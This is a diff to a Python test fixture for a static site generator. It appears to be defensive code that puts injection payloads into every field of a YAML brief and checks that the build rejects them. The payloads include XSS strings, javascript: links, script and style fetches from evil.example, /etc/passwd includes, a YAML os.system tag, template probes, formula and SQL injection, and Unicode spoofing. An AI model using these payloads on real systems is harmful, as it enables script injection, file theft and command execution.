@@ -1,97 +1,212 @@
-"""A brief in which every text holds what some format could take for its own, and every kind of date."""
+"""What somebody could write into a brief to make it do something: each text, in each field.
+
+Whatever runs calls `alert`, sets `ran`, or asks `evil.example` for something.
+"""
+
+import copy
+from typing import Any
 
 import yaml
 
-from generator.site import Site
+from generator.pipeline import check
+from tests.project import texts
 
-SITE = Site(
-    name='Briefs & "Co", <b>Inc</b>',
-    description="What happened </script>",
-    address="https://briefs.example/sub/",
-    repository="https://git.example/o/r",
-)
+PAYLOADS = {
+    # HTML
+    "script": "<script>alert(1);ran=1</script>",
+    "script-in-capitals": "<ScRiPt/x>alert(1)</sCrIpT >",
+    "script-from-elsewhere": "<script src=https://evil.example/a.js></script>",
+    "image": '<img src=x onerror="alert(1)">',
+    "image-without-end": "<img src=x onerror=alert(1)//",
+    "vector-picture": "<svg/onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "frame": '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
+    "form": "<form action=https://evil.example/><input autofocus onfocus=alert(1)>",
+    "style": "<style>@import 'https://evil.example/a.css';</style>",
+    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+    "base": "<base href=https://evil.example/>",
+    "double-quote": '" autofocus tabindex=1 onfocus="alert(1)',
+    "single-quote": "' autofocus tabindex=1 onfocus='alert(1)",
+    "title-ends": "</title></textarea></style></script><script>alert(1)</script>",
+    "comment": "--><script>alert(1)</script><!--",
+    "marked-section": "]]><script>alert(1)</script><![CDATA[",
+    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
+    "entity-without-end": "&#x3Cscript&#x3Ealert(1)&#x3C/script&#x3E",
+    "slot-of-a-marker": "\u0002wzxhzdk:0\u0003 <b>",
+    # Markdown and its extensions
+    "link-to-a-script": "[here](javascript:alert(1))",
+    "link-with-entities": "[here](&#106;avascript:alert(1))",
+    "link-with-a-title": '[here](https://example.org "\\" onmouseover=\\"alert(1)")',
+    "link-of-data": "[here](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "link-by-reference": "[here][1] [1]: javascript:alert(1)",
+    "link-of-angles": "<javascript:alert(1)> <https://evil.example/>",
+    "picture": "![tracked](https://evil.example/a.png)",
+    "picture-of-a-file": "![](../../mkdocs.yml)",
+    "attributes": "words {: onclick=alert(1) #other .card style='position:fixed' }",
+    "attributes-of-a-heading": "# Heading { onclick=alert(1) }",
+    "markdown-in-html": '<div markdown="1" onclick="alert(1)">**x**</div>',
+    "snippet": '--8<-- "/etc/passwd"',
+    "snippet-of-an-address": '--8<-- "https://evil.example/a.md"',
+    "admonition": '!!! note "<script>alert(1)</script>"',
+    "tab": '=== "<script>alert(1)</script>"',
+    "fence": '```html title="<script>alert(1)</script>"',
+    "footnote": "[^1] [^1]: <script>alert(1)</script>",
+    "abbreviation": "*[HTML]: <script>alert(1)</script>",
+    "contents": "[TOC]",
+    "formula": "$\\href{javascript:alert(1)}{x}$",
+    "table": "| <script>alert(1)</script> | --- |",
+    # front matter, templates, YAML
+    "front-matter": "--- title: <script>alert(1)</script> template: ../../mkdocs.yml ---",
+    "template": "{{ 7 * 7 }}{% include '/etc/passwd' %}{{ config.__class__.__init__.__globals__ }}",
+    "template-of-the-engine": "{{ page.meta }}{% raw %}{# comment #}",
+    "environment": "!ENV [HOME] ${HOME} $HOME %HOME%",
+    "tag": "!!python/object/apply:os.system ['echo ran']",
+    # files and addresses
+    "path": "../../../../etc/passwd",
+    "path-of-windows": "..\\..\\..\\windows\\win.ini",
+    "path-with-a-zero": "a.md%00.png/../../b",
+    "address-of-a-script": "javascript:alert(1)",
+    "address-of-a-script-in-disguise": "JaVaScRiPt://evil.example/%0aalert(1)",
+    "address-of-data": "data:text/html,<script>alert(1)</script>",
+    "address-of-a-file": "file:///etc/passwd",
+    "address-without-scheme": "//evil.example/a",
+    "address-with-a-user": "https://example.org@evil.example/",
+    "address-that-breaks-out": "https://example.org/\"onmouseover=\"alert(1)\"x=')",
+    "address-with-markup": "https://example.org/)](javascript:alert(1))<script>alert(1)</script>",
+    # other formats
+    "spreadsheet": '=HYPERLINK("https://evil.example/","x")',
+    "spreadsheet-command": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "typesetting": '#read("/etc/passwd") #image("https://evil.example/a.png") $ x $ @other <label>',
+    "calendar": "x\\nATTACH:https://evil.example/a;ENCODING=BASE64:x",
+    "query": "'); DROP TABLE briefs; --",
+    "backslashes": "\\\\ \\\" \\' \\u003cscript\\u003ealert(1)\\u003c/script\\u003e \\",
+    # characters
+    "right-to-left": "evil\u202egpj.exe\u202c \u2066\u2067x\u2069",
+    "unseen": "pay\u200bpal \ufeffx\u00ad\u2060",
+    "separators": "a\u2028b\u2029c\u0085d",
+    "control": "a\u0000b\u0008c\u001b[31md",
+    "surrogate": "\ud83d x",
+    "not-a-character": "\ufffe \uffff",
+    "many-marks": "Z" + "\u0301\u0323" * 400,
+    "long-word": "x" * 20_000,
+    "long-line": "word " * 8_000,
+    "many-brackets": "[" * 4_000,
+    "many-links": "[a](" * 3_000,
+    "many-asterisks": "*a_ " * 3_000,
+    "many-quotations": "> " * 2_000,
+    "many-entities": "&" * 5_000,
+    "many-backticks": "`a" * 3_000,
+    "look-alike": "\u0440\u0430ypal \u13df\u13a1\u13a1",
+    "emoji": "👩‍👩‍👧‍👦 🇨🇳 上海 «кавычки»",
+}  # fmt: skip
 
-PLAIN = (
-    """"quoted" 'so' </script> <b>&amp; #eval("1") *a* _b_ $x^2$ @c \\emph{d} }e{ 50% ~ `f` [g](h) ]]> == - // """
-    """上海 «кавычки» Zürich حامد שלום 😀 ქართული"""
-)
-MISSING = "\N{EGYPTIAN HIEROGLYPH A001}"
-"""A letter that no font of the papers has."""
-TEXT = f"{PLAIN} {MISSING}"
-PROSE = (
-    '"quoted" \\*a\\* #eval("1") $x^2$ @c 50% ~ 上海 «кавычки» **strong** and *stressed*, '
-    "[a link](https://example.org/?a=1&b=2)."
-)
-PROSE_WORDS = '"quoted" *a* #eval("1") $x^2$ @c 50% ~ 上海 «кавычки» strong and stressed, a link.'
-SOURCE = "https://example.org/{a}?b=1&c='2'"
-
-DATES = (
-    "2001",
-    "2010-11",
-    "2010-12-09",
-    "2010-11/2010-12",
-    "2001~",
-    "2010?",
-    "2010-22",
-    "199X",
-    "2012-05/..",
-    "../2013",
-)
-
-
-def brief(text: str = TEXT) -> str:
-    """The file, with the text in every plain field."""
-    timeline = [
+BRIEF: dict[str, Any] = {
+    "title": "A brief",
+    "summary": "What happened.",
+    "date": "2020-05-01",
+    "topics": ["topic"],
+    "key_judgements": [{"text": "A conclusion.", "confidence": "low", "sources": ["paper"]}],
+    "actors": [
+        {"id": "one", "role": "First"},
+        {"id": "two", "name": "Actor Two", "kind": "person", "role": "Second"},
+    ],
+    "relations": [{"from": "one", "to": "two", "label": "neighbour of"}],
+    "timeline": [
         {
-            "id": f"event-{number}",
-            "date": date,
-            "title": f"{number} {text}",
-            "text": PROSE,
+            "id": "event",
+            "date": "2020-01",
+            "title": "An event",
+            "text": "More about it.",
+            "note": "Doubtful.",
+            "status": "disputed",
+            "actors": ["one", "two"],
             "sources": ["paper"],
-            "actors": ["person"],
         }
-        for number, date in enumerate(DATES)
-    ]
-    entry = {
-        "title": text,
-        "summary": text,
-        "date": "2014-01-02",
-        "updated": "2015-03-04",
-        "key_judgements": [{"text": PROSE, "confidence": "low", "sources": ["paper"]}],
-        "actors": [
-            {"id": "person", "name": text, "kind": "person", "role": text},
-            {"id": "state", "name": "上海", "kind": "state", "role": "Place"},
-        ],
-        "relations": [{"from": "person", "to": "state", "label": text}],
-        "timeline": timeline,
-        "quotes": [
-            {
-                "id": "quote",
-                "text": text,
-                "speaker": "person",
-                "date": "2010",
-                "context": PROSE,
-                "source": "paper",
-            }
-        ],
-        "background": f"{PROSE} [@paper]\n\n- one\n- two\n\n> quoted\n\n1. three",
-        "open_questions": [PROSE],
-        "sources": {
-            "paper": {
-                "title": text,
-                "authors": [text, "Ludwig van Beethoven", "Zhang, Haizhou", "Ministry of Foreign Affairs"],
-                "publisher": f"{text} Ltd",
-                "published": "2015-02",
-                "url": SOURCE,
-                "archived": SOURCE,
-                "language": "zh",
-            }
-        },
-        "corrections": [{"date": "2015-03-04", "text": PROSE}],
+    ],
+    "quotes": [
+        {
+            "id": "quote",
+            "text": "What was said",
+            "speaker": "one",
+            "date": "2020-01",
+            "context": "There.",
+            "source": "paper",
+        }
+    ],
+    "background": "What came before.",
+    "open_questions": ["What next?"],
+    "sources": {
+        "paper": {
+            "title": "A paper",
+            "authors": ["An author"],
+            "publisher": "A publisher",
+            "published": "2020",
+            "url": "https://example.org/",
+            "archived": "https://archive.example/",
+            "language": "en",
+        }
+    },
+    "corrections": [{"date": "2020-05-02", "text": "What was wrong."}],
+    "see_also": [],
+    "formerly": [],
+}
+PROFILE: dict[str, Any] = {
+    "name": "Actor One",
+    "kind": "person",
+    "summary": "Somebody.",
+    "aliases": ["The first"],
+    "affiliations": [{"to": "two", "role": "friend"}],
+}
+TOPIC: dict[str, Any] = {"title": "A topic", "summary": "What belongs to it."}
+
+Path = tuple[str | int, ...]
+
+
+def paths(tree: Any, base: Path = ()) -> list[Path]:  # noqa: ANN401 -- what YAML holds
+    """Where texts stand in the tree."""
+    if isinstance(tree, str):
+        return [base]
+    entries = tree.items() if isinstance(tree, dict) else enumerate(tree)
+    return [path for key, value in entries for path in paths(value, (*base, key))]
+
+
+def put(tree: Any, path: Path, text: str) -> Any:  # noqa: ANN401 -- what YAML holds
+    """A copy of the tree with the text at the path."""
+    made = place = copy.deepcopy(tree)
+    for step in path[:-1]:
+        place = place[step]
+    place[path[-1]] = text
+    return made
+
+
+def project(number: int, changes: dict[tuple[str, Path], str]) -> dict[str, str]:
+    """The files of a brief, an actor and a topic of their own, with texts changed by file and path."""
+    trees = {"brief": BRIEF, "profile": PROFILE, "topic": TOPIC}
+    for (name, path), text in changes.items():
+        trees[name] = put(trees[name], path, text)
+    files = {
+        f"briefs/brief-{number}.yml": _renumbered(trees["brief"], number),
+        f"briefs/actors/one-{number}.yml": _renumbered(trees["profile"], number),
+        "briefs/topics.yml": {f"topic-{number}": trees["topic"]},
     }
-    return yaml.safe_dump(entry, allow_unicode=True)
+    return {path: yaml.safe_dump(tree, allow_unicode=True, sort_keys=False) for path, tree in files.items()}
 
 
-def briefs(text: str = TEXT) -> dict[str, str]:
-    """The file by its path."""
-    return {"briefs/odd.yml": brief(text)}
+def _renumbered(tree: Any, number: int) -> Any:  # noqa: ANN401 -- what YAML holds
+    """The tree with ids that no other case has."""
+    if isinstance(tree, str):
+        return f"{tree}-{number}" if tree in {"one", "two", "topic"} else tree
+    if isinstance(tree, dict):
+        return {key: _renumbered(value, number) for key, value in tree.items()}
+    return [_renumbered(each, number) for each in tree] if isinstance(tree, list) else tree
+
+
+FIELDS = [
+    *(("brief", path) for path in paths(BRIEF)),
+    *(("profile", path) for path in paths(PROFILE)),
+    *(("topic", path) for path in paths(TOPIC)),
+]
+
+
+def refused(files: dict[str, str]) -> bool:
+    """Whether the check finds an error, which a build then ends with."""
+    return bool(check(texts(files)).has_errors)
